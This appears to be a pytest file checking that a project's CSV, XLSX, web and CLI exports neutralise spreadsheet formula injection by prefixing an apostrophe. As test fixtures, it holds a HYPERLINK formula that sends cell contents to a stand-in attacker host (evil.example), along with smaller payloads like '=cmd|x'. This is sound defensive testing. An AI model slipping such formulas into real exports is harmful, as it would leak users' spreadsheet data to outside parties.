"""Formula injection: text that a spreadsheet would run (``=HYPERLINK(…``) leaves every export inert."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pandas as pd
import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

from kotacerdas.cli import cli
from kotacerdas.io.safe_cells import CsvWriter, DictCsvWriter, safe_cell, safe_frame
from kotacerdas.web.exports import csv_response, xlsx_response

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
SRC = Path(__file__).resolve().parents[2] / "src" / "kotacerdas"


@pytest.mark.parametrize("text", [EVIL, "+1+cmd", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_formula_text_gets_an_apostrophe(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["-0.5", "+3", "1e-3", "-inf", "63.71", "Kota Banjarmasin", 5, -1.5, None])
def test_numbers_and_plain_text_are_kept(value):
    assert safe_cell(value) == value


def test_csv_writers_and_frames_neutralise():
    buffer = io.StringIO()
    CsvWriter(buffer).writerows([["code", "note"], ["63.71", EVIL]])
    dict_buffer = io.StringIO()
    writer = DictCsvWriter(dict_buffer, ["code", "note"])
    writer.writeheader()
    writer.writerow({"code": "=1+1", "note": "-0.5"})
    assert list(csv.reader(io.StringIO(buffer.getvalue())))[1] == ["63.71", "'" + EVIL]
    assert list(csv.reader(io.StringIO(dict_buffer.getvalue())))[1] == ["'=1+1", "-0.5"]
    frame = safe_frame(pd.DataFrame({"uCode": ["=cmd|x", "63.71"], "score": [-1.0, 2.0]}))
    assert frame["uCode"].tolist() == ["'=cmd|x", "63.71"] and frame["score"].tolist() == [-1.0, 2.0]


def test_web_table_exports_csv_and_xlsx():
    rows = [["63.71", EVIL, -1.5]]
    text = csv_response("t", ["code", "name", "score"], rows).content.decode()
    assert list(csv.reader(io.StringIO(text)))[1] == ["63.71", "'" + EVIL, "-1.5"]
    sheet = load_workbook(io.BytesIO(xlsx_response("t", ["code", "name", "score"], rows).content)).active
    cell = sheet["B2"]
    assert cell.data_type == "s" and cell.value == "'" + EVIL
    assert sheet["C2"].value == -1.5


def test_assign_cli_neutralises_ids(tmp_path):
    scores = tmp_path / "scores.csv"
    scores.write_text(
        "".join(
            f"{s},{r},0.{i}{j}\n"
            for i, s in enumerate(["=evil()", "p1"])
            for j, r in enumerate(["@r0", "r1"])
        )
    )
    out = tmp_path / "out"
    result = CliRunner().invoke(
        cli,
        [
            "assign",
            "--scores",
            str(scores),
            "--k",
            "1",
            "--min-load",
            "0",
            "--max-load",
            "2",
            "--out",
            str(out),
        ],
        catch_exceptions=False,
    )
    assert result.exit_code == 0, result.output
    cells = [c for row in csv.reader(io.StringIO((out / "assignment.csv").read_text())) for c in row]
    assert "'=evil()" in cells and "=evil()" not in cells
    assert not [c for c in cells if c.startswith(("=", "@"))]


WRITERS = re.compile(r"csv\.writer\(|csv\.DictWriter\(|\.to_csv\(|\bWorkbook\(|\.to_excel\(")


def test_every_csv_or_xlsx_writer_uses_the_guard():
    """A module that writes CSV or XLSX imports :mod:`kotacerdas.io.safe_cells` or :mod:`kotacerdas.io.sheets`
    (which writes through it); demo input files aside."""
    offenders = []
    for path in SRC.rglob("*.py"):
        rel = path.relative_to(SRC).as_posix()
        if rel == "io/safe_cells.py" or "demo" in rel:  # demo tables are inputs to its own import
            continue
        text = path.read_text(encoding="utf-8")
        guarded = "kotacerdas.io.safe_cells" in text or "kotacerdas.io.sheets" in text
        if WRITERS.search(text) and not guarded:
            offenders.append(rel)
    assert offenders == []
